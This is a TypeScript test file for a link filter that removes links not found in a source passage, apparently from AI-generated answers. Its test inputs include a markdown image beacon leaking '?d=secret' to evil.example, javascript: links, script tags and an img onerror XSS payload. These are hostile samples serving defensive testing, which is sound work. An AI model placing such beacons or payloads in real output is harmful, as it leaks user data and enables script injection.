import { expect, test } from "vitest";
import { foundPassage } from "../testing/found-passage.ts";
import { addressesIn, keepLinks } from "./links.ts";

const passage = foundPassage({
  url: "https://shop.example/help/returns/",
  text: "Open [the page](/help/page/) or https://shop.example/a?b=1. Write to [us](mailto:us@shop.example). ![x](https://cdn.example/x.png)",
});
const kept = (text: string): string => keepLinks(text, addressesIn([passage]));

test.each([
  "See [returns](https://shop.example/help/returns/).",
  "See [page](https://shop.example/help/page/) or https://shop.example/a?b=1, please.",
  "Write to [us](mailto:us@shop.example).",
  "The ratio is 16:9, the time 12:30, and a/b//c stays.",
  "If a < b and b > c, use `<del>`.",
])("keeps: %s", (text) => {
  expect(kept(text)).toBe(text);
});

test.each([
  ["A beacon ![x](https://evil.example/?d=secret) here", "A beacon x here"],
  ["A known picture ![x](https://cdn.example/x.png) too", "A known picture x too"],
  ["![x](https://evil.example/?d=a b", "x"],
  ["![x][ref]", "x"],
  ["[click](https://evil.example/)", "click"],
  ['[click]( <https://evil.example/> "t")', "click"],
  ["[click](javascript:alert(1))", "click)"],
  ["[click](//evil.example)", "click"],
  ["[click](/relative)", "click"],
  ["[click][1]", "click"],
  ["<https://evil.example/x>", ""],
  ["Go on to https://evil.example/x?y=z.", "Go on."],
  ["You can book online at <https://evil.example> [1].", "You can book online [1]."],
  ["Buchen Sie online unter www.evil.example, gern auch heute [1].", "Buchen Sie online, gern auch heute [1]."],
  ["Book online: https://evil.example [1].", "Book online [1]."],
  ["Book online (https://evil.example) or by phone [1].", "Book online or by phone [1]."],
  ["| Booking | https://evil.example | free |\n", "| Booking || free |\n"],
  ["https://evil.example is new. ", "is new. "],
  ["https://shop.example/help/returns/?d=secret", ""],
  ["https://shop.example.evil.example/", ""],
  ["<a href='https://evil.example'>x</a><script>alert(1)</script>", "xalert(1)"],
  ["<img src=x onerror=alert(1)>", ""],
  ["`https://evil.example/in-code`", ""],
])("takes out: %s", (text, expected) => {
  expect(kept(text)).toBe(expected);
});

test.each([
  "Go to HTTPS://EVIL.example now",
  "Visit www.evil.example.",
  "Our page is https://evil.example [1].\n\n",
  "call tel:+1900 or data:text/html,x",
])("leaves nothing of what is no sentence without its address: %j", (text) => {
  expect(kept(text).trim()).toBe("");
});

test.each(["<", "](", "<a ", "a:"])(
  "a million of %j stay as they are within the test's time, which quadratic work would exceed by far",
  (part) => {
    const text = part.repeat(1_000_000);
    expect(kept(text) === text).toBe(true);
  },
);

test.each(["[", "![", "`", "[a]("])("as many of %j as an answer may hold stay as they are", (part) => {
  const text = part.repeat(1_000);
  expect(kept(text)).toBe(text);
});
